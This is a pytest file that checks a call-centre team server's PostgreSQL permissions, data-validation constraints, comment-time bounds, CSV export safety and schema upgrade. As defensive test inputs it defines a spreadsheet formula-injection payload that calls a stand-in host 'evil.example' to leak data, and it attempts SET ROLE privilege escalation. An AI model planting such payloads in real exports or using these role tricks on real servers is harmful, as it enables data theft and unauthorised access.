"""The team server keeps its own rules, whatever client talks to it (real PostgreSQL, tests/pg_server.py;
each "cannot" is tried as that person's own login with plain SQL, as psql would): `SET ROLE` into a
group gains nothing; a call document keeps only the keys the rules list and, without share_text, no
text; a document or a row of the wrong type, size or range is refused with one line, and what a
server still holds from before is shown without a crash; a comment's time is finite and within its
call; the weekly CSV's header runs no formula; `add-agent` does not take over a role that is not a
member; and a version-1 server is upgraded and repaired."""

from __future__ import annotations

import csv
import io
import json
import math
import uuid

import psycopg
import pytest
from psycopg.types.json import Jsonb

from companion.team import doc_rules, server_calls
from companion.team import server_admin as admin
from companion.team import server_queries as queries
from companion.team.errors import TeamError
from companion.team.server_schema import MIGRATIONS, SCHEMA_VERSION, migrate
from companion.textsafe import FORMULA_START
from tests.pg_server import pg_server  # noqa: F401  (the session's server)
from tests.team_server_fixtures import Team, call_doc, count, team  # noqa: F401  (team: the fixture)

HYPERLINK = '=HYPERLINK("http://evil.example/?leak","click")'


def _insert(conn, doc: object, **columns) -> str:
    """A call written with plain SQL, as a client that ignores the app's rules would (its uuid)."""
    values = {"uuid": str(uuid.uuid4()), "started_at": "2026-11-30T10:00:00+00:00", "status": "complete",
              "doc": Jsonb(doc), **columns}
    conn.execute(f"INSERT INTO cc.calls ({', '.join(values)}) VALUES ({', '.join(['%s'] * len(values))})",
                 list(values.values()))
    return values["uuid"]


# --- SET ROLE into a group (issue 20, item 4) ------------------------------------------------
def test_set_role_into_a_group_gains_nothing(team):
    mine = call_doc()
    server_calls.upsert_call(team.connect("ann"), mine)
    ann = team.raw("ann")
    ann.execute("SET ROLE cc_agent")  # PostgreSQL 15 lets a member do this; the rules follow the login
    planted = _insert(ann, {})  # version 1 wrote this as cc_agent's: a shared area every agent could use
    assert team.su.execute("SELECT agent_role FROM cc.calls WHERE uuid = %s", (planted,)).fetchone() == \
        (team.name("ann"),)
    with pytest.raises(psycopg.errors.InsufficientPrivilege):
        ann.execute("INSERT INTO cc.calls (uuid, agent_role, started_at, status, doc) "
                    "VALUES (%s, 'cc_agent', now(), 'complete', '{}')", (str(uuid.uuid4()),))
    assert {r[0] for r in ann.execute("SELECT uuid::text FROM cc.calls")} == {mine["uuid"], planted}  # her own
    bob = team.raw("bob")
    bob.execute("SET ROLE cc_agent")
    assert count(bob, "SELECT count(*) FROM cc.calls") == 0
    assert bob.execute("UPDATE cc.calls SET duration_s = 1 WHERE uuid = %s", (mine["uuid"],)).rowcount == 0
    sam = team.raw("sam")  # south's supervisor, in the group's shoes, sees no more than south
    sam.execute("SET ROLE cc_supervisor")
    assert count(sam, "SELECT count(*) FROM cc.calls") == 0
    assert count(sam, "SELECT count(*) FROM cc.weekly") == 0
    sue = team.raw("sue")
    sue.execute("SET ROLE cc_supervisor")
    author = sue.execute("INSERT INTO cc.comments (call_uuid, text) VALUES (%s, 'ok') RETURNING author_role",
                         (mine["uuid"],)).fetchone()[0]
    assert author == team.name("sue")  # written as herself, not as the group
    assert team.su.execute("SELECT DISTINCT agent_role FROM cc.calls").fetchall() == [(team.name("ann"),)]
    queries.refresh_rollup(team.connect("sue"))
    assert {w["agent"] for w in queries.weekly(team.su, weeks=520)} == {team.name("ann")}  # no "agent" cc_agent


def test_an_agent_of_another_team_database_writes_nothing_here(team, pg_server):  # noqa: F811
    other = Team(pg_server)  # the groups are the whole server's: its agents may connect to this database
    try:
        stranger = psycopg.connect(pg_server.dsn(other.name("ann"), other.passwords[other.name("ann")],
                                                 dbname=team.dbname), autocommit=True)
        with stranger, pytest.raises(TeamError, match="does not allow"):
            server_calls.upsert_call(stranger, call_doc())
        assert count(team.su, "SELECT count(*) FROM cc.calls") == 0
    finally:
        other.close()


# --- what a document keeps (item 6) ----------------------------------------------------------
def _smuggling(said: str) -> dict:
    """A call document from a client that tries to send text the policy keeps on the machine."""
    return call_doc(said, words=[{"w": said}], transcript_copy=said, agent=said,
                    turns=[{"party": "customer", "start": 0.0, "end": 4.0, "text": said, "words": said.split()}],
                    prompts=[{"t": 5.0, "kind": "slow_down", "reason": "pace", "heard": said}],
                    checklist=[{"step_id": "greet", "title": "Greet", "t": 1.0, "source": "auto", "done": True,
                                "said": said}])


def _stored_docs(team) -> list[dict]:
    return [r[0] for r in team.su.execute("SELECT doc FROM cc.calls ORDER BY received_at")]


def test_without_share_text_the_server_keeps_no_text_and_no_unknown_key(pg_server):  # noqa: F811
    team = Team(pg_server, share_text=False, share_audio=False)
    try:
        said = "my parcel went to number forty two"
        _insert(team.raw("ann"), _smuggling(said), transcript=said)  # straight to the table
        server_calls.upsert_call(team.connect("ann"), _smuggling(said))  # and through the app
        for doc in _stored_docs(team):
            assert "parcel" not in json.dumps(doc)
            assert set(doc) <= set(doc_rules.TOP) and doc["segments"] == [] and doc["root_cause"] is None
            assert [set(t) for t in doc["turns"]] == [{"party", "start", "end"}]
            assert set(doc["prompts"][0]) == {"t", "kind", "reason"} and "said" not in doc["checklist"][0]
        assert count(team.su, "SELECT count(*) FROM cc.calls WHERE transcript IS NOT NULL") == 0
    finally:
        team.close()


def test_with_share_text_only_the_segments_and_the_note_carry_text(team):
    said = "my parcel went to number forty two"
    _insert(team.raw("ann"), _smuggling(said), transcript="words nobody said")
    for doc in _stored_docs(team):
        assert set(doc) <= set(doc_rules.TOP) and [set(t) for t in doc["turns"]] == [{"party", "start", "end"}]
        assert doc["segments"][0]["text"] == said
    # the searchable transcript is made by the server from the segments, not taken from the client
    assert team.su.execute("SELECT transcript FROM cc.calls").fetchone()[0].startswith(said)
    assert queries.list_calls(team.connect("sue"), text="nobody") == []


# --- documents and rows the server refuses (item 7) ------------------------------------------
@pytest.mark.parametrize("doc, message", [
    ({"turns": 5}, "turns must be a list of at most 200000 objects"),
    ({"turns": [5]}, r"turns\[0\] must be an object"),
    ({"turns": [{"party": "agent", "start": "soon", "end": 1}]}, r"turns\[0\]\.start must be a number from 0 to 86400"),
    ({"segments": [{"party": "agent", "start": 1, "end": 90000}]}, r"segments\[0\]\.end must be a number from 0 to 86400"),
    ({"turns": [{"party": "boss", "start": 1, "end": 2}]}, r"turns\[0\]\.party must be one of agent, customer"),
    ({"segments": [{"text": "x" * (doc_rules.MAX_TEXT + 1)}]}, r"segments\[0\]\.text must be text of at most 100000"),
    ({"prompts": [{"t": 1, "kind": HYPERLINK}]}, r"prompts\[0\]\.kind must be a name"),
    ({"duration_s": {"nested": 1}}, "duration_s must be a number"),
    ({"pace": [{}] * (doc_rules.MAX_ITEMS + 1)}, "pace must be a list of at most 200000 objects"),
    ([1, 2], "document's must be an object"),
])
def test_the_server_refuses_a_document_it_could_not_show(team, doc, message):
    with pytest.raises(psycopg.errors.CheckViolation, match=message):
        _insert(team.raw("ann"), doc)
    assert count(team.su, "SELECT count(*) FROM cc.calls") == 0


@pytest.mark.parametrize("columns, constraint", [
    ({"duration_s": 1e12}, "calls_duration_within_a_day"),
    ({"duration_s": math.nan}, "calls_duration_within_a_day"),
    ({"agent_wpm": 1e30}, "calls_figures_in_range"),
    ({"agent_talk_ratio": math.inf}, "calls_figures_in_range"),
    ({"started_at": "infinity"}, "calls_started_at_sane"),
])
def test_the_server_refuses_a_rows_numbers_out_of_bounds(team, columns, constraint):
    with pytest.raises(psycopg.errors.CheckViolation, match=constraint):
        _insert(team.raw("ann"), {}, **columns)


def test_the_server_counts_prompts_itself(team):
    _insert(team.raw("ann"), call_doc(), prompts=2_000_000_000, prompt_counts=Jsonb({"x": "abc"}), interruptions=-5)
    assert team.su.execute("SELECT prompts, prompt_counts, interruptions, interruptions_by_agent FROM cc.calls"
                           ).fetchone() == (2, {"slow_down": 1, "keep_listening": 1}, 2, 1)


def test_the_app_shapes_a_bad_document_so_the_call_is_kept_and_the_dashboard_stays_sane(team):
    ann, sue = team.connect("ann"), team.connect("sue")
    doc = call_doc(duration_s=1e12, agent_wpm=1e30, turns=5, upset_s=math.nan,
                   prompts=[{"t": 1.0, "kind": HYPERLINK, "reason": "x"}, 7, {"t": "later", "kind": "slow_down"}])
    server_calls.upsert_call(ann, doc)
    duration, wpm, counts = team.su.execute("SELECT duration_s, agent_wpm, prompt_counts FROM cc.calls").fetchone()
    assert (duration, wpm, counts) == (doc_rules.MAX_SECONDS, None, {"slow_down": 1})
    call = queries.load_call(sue, doc["uuid"])
    assert call["turns"] == [] and [p["kind"] for p in call["prompts"]] == []  # neither has a usable time
    queries.refresh_rollup(sue)
    [week] = queries.weekly(sue, weeks=520)
    assert week["call_minutes"] == 1440.0  # a day at most, not 16,666,666,666 minutes


def test_each_text_said_is_in_one_turn_however_the_turns_overlap(team):
    said = [f"word{n}" for n in range(300)]
    segments = [{"party": "agent", "start": n * 2.0, "end": n * 2.0 + 1.5, "text": w} for n, w in enumerate(said)]
    turns = [{"party": "agent", "start": 0.0, "end": 600.0} for _ in range(300)]  # 300 turns, each the whole call
    turns += [{"party": "agent", "start": 10.0, "end": 20.0}, {"party": "customer", "start": 0.0, "end": 600.0}]
    doc = call_doc(duration_s=600.0, segments=segments, turns=turns)
    server_calls.upsert_call(team.connect("ann"), doc)
    call = queries.load_call(team.connect("sue"), doc["uuid"])
    texts = [t["text"] for t in call["turns"] if t["text"]]
    assert sorted(" ".join(texts).split(), key=lambda w: int(w[4:])) == said  # each once, none lost
    assert [t["text"] for t in call["turns"] if t["start"] == 10.0] == ["word5 word6 word7 word8 word9"]
    assert [t["text"] for t in call["turns"] if t["party"] == "customer"] == [""]


# --- comments' times (item 8) ----------------------------------------------------------------
def test_a_comments_time_is_a_finite_number_within_the_call(team):
    doc = call_doc()  # 184.5 s long
    server_calls.upsert_call(team.connect("ann"), doc)
    sue = team.connect("sue")
    for bad in (math.nan, math.inf, -1.0, True, "5"):
        with pytest.raises(TeamError, match="A comment's time must be a number of seconds within the call") as raised:
            queries.add_comment(sue, doc["uuid"], "good call", t=bad)
        assert "\n" not in str(raised.value)
    with pytest.raises(TeamError, match=r"^The team server refused saving a comment: a comment's time must be within "
                                        r"the call, from 0 to 184\.5 s\.$"):
        queries.add_comment(sue, doc["uuid"], "good call", t=190.0)
    raw = team.raw("sue")
    for bad in ("NaN", "Infinity", "-1", "190"):
        with pytest.raises(psycopg.errors.CheckViolation):
            raw.execute("INSERT INTO cc.comments (call_uuid, t, text) VALUES (%s, %s::real, 'x')", (doc["uuid"], bad))
    assert count(team.su, "SELECT count(*) FROM cc.comments") == 0
    assert queries.add_comment(sue, doc["uuid"], "strong close", t=184.5)["t"] == 184.5  # the very end is in
    assert [i["t"] for i in server_calls.feedback_since(team.connect("ann"), None)] == [184.5]


# --- the weekly CSV (item 9) -----------------------------------------------------------------
def test_the_weekly_csv_header_cannot_start_a_formula():
    row = {"week": "2026-11-30", "agent": "ann", "team": "north", "calls": 1, "prompts_per_call": 1.0,
           "prompts_per_call_by_kind": {HYPERLINK: 1.0, "slow_down": 0.5}, "interruptions_per_call": 0.0,
           "avg_wpm": 150.0, "avg_talk_share": 0.5, "calls_reviewed": 0, "upset_calls": 0, "call_minutes": 3.0}
    header = next(csv.reader(io.StringIO(queries.weekly_csv([row]))))
    assert not [cell for cell in header if cell.startswith(FORMULA_START)]
    assert "'" + HYPERLINK + "_per_call" in header and "slow_down_per_call" in header


# --- add-agent and roles that are not members (item 12) --------------------------------------
def test_add_agent_does_not_take_over_a_role_that_is_not_a_member(team, pg_server):  # noqa: F811
    name = f"dba{team.sfx}"
    team.su.execute(f'CREATE ROLE "{name}" LOGIN CREATEDB PASSWORD \'their-own\'')
    try:
        with pytest.raises(TeamError, match=rf"^{name} is already a role on this server and not a member of this team "
                                            r"— choose another name\. Nothing was changed\.$"):
            admin.add_member(team.su, name, "north", "agent")
        assert team.su.execute("SELECT rolcreatedb, pg_has_role(%s, 'cc_agent', 'MEMBER') FROM pg_roles "
                               "WHERE rolname = %s", (name, name)).fetchone() == (True, False)
        psycopg.connect(pg_server.dsn(name, "their-own")).close()  # the password is theirs still
    finally:
        team.su.execute(f'DROP ROLE "{name}"')
    ann = team.name("ann")
    admin.revoke_member(team.su, ann)
    team.passwords[ann] = admin.add_member(team.su, ann, "north", "agent")  # a member (revoked) comes back
    server_calls.upsert_call(team.connect("ann"), call_doc())


# --- the upgrade from version 1 --------------------------------------------------------------
def test_a_version_1_server_is_upgraded_and_what_it_holds_is_repaired(pg_server, monkeypatch):  # noqa: F811
    monkeypatch.setattr(admin, "migrate", lambda conn: migrate(conn, MIGRATIONS[:1]))
    team = Team(pg_server)  # what `companion team init` made before version 2
    monkeypatch.undo()
    try:
        assert count(team.su, "SELECT max(version) FROM cc.cc_schema") == 1
        ann, sue = team.raw("ann"), team.raw("sue")
        good = call_doc()
        row, _ = server_calls.call_row(good, {"share_text": True})
        ann.execute("INSERT INTO cc.calls (" + ", ".join(row) + ") VALUES (" + ", ".join(["%s"] * len(row)) + ")",
                    list(row.values()))
        ann.execute("SET ROLE cc_agent")  # version 1 let this write a row every agent could read
        planted = _insert(ann, {"turns": []})
        ann.execute("RESET ROLE")
        junk = {"turns": 5, "segments": [7, {"party": "agent", "start": "x"}], "prompts": [5, {"t": "x"}],
                "checklist": "x", "pauses": [{"start": None}], "customer_states": [{"t": 1, "state": "furious"}],
                "interruptions": [{"t": 1e300, "by": "agent"}], "root_cause": {"a": 1}}
        huge = _insert(ann, junk, duration_s=1e12, agent_wpm=math.nan, prompts=-3,
                       prompt_counts=Jsonb({HYPERLINK: "abc"}))
        shapeless = _insert(ann, [1, 2])
        for t in ("NaN", "Infinity", "-1", "5"):
            sue.execute("INSERT INTO cc.comments (call_uuid, t, text) VALUES (%s, %s::real, %s)", (good["uuid"], t, t))

        assert admin.init_server(team.su, share_text=True, share_audio=True) == SCHEMA_VERSION
        assert count(team.su, "SELECT count(*) FROM cc.calls WHERE uuid = %s", planted) == 0
        assert team.su.execute("SELECT duration_s, agent_wpm, prompts, prompt_counts FROM cc.calls WHERE uuid = %s",
                               (huge,)).fetchone() == (doc_rules.MAX_SECONDS, None, 1, {})  # recounted
        assert [i["t"] for i in server_calls.feedback_since(team.connect("ann"), None)
                if i["type"] == "comment"] == [None, None, None, 5.0]
        supervisor = team.connect("sue")
        queries.refresh_rollup(supervisor)
        assert max(w["call_minutes"] for w in queries.weekly(supervisor, weeks=520)) <= 3 * 1440
        damaged = queries.load_call(supervisor, huge)  # what the server still holds is shown, not a crash
        assert damaged["duration_s"] == 86400.0 and damaged["call"]["notes"] is None
        assert [damaged[k] for k in ("turns", "prompts", "interruptions", "customer_states")] == [[], [], [], []]
        assert [damaged["call"][k] for k in ("segments", "checklist", "pauses")] == [[], [], []]
        with pytest.raises(TeamError, match=r"^The call .* has no readable document .* ask your admin\.$"):
            queries.load_call(supervisor, shapeless)
        assert queries.load_call(supervisor, good["uuid"])["turns"][0]["text"].startswith("the parcel")
        ann.execute("SET ROLE cc_agent")
        again = _insert(ann, {})
        assert count(team.su, "SELECT count(*) FROM cc.calls WHERE uuid = %s AND agent_role = %s", again,
                     team.name("ann")) == 1
    finally:
        team.close()
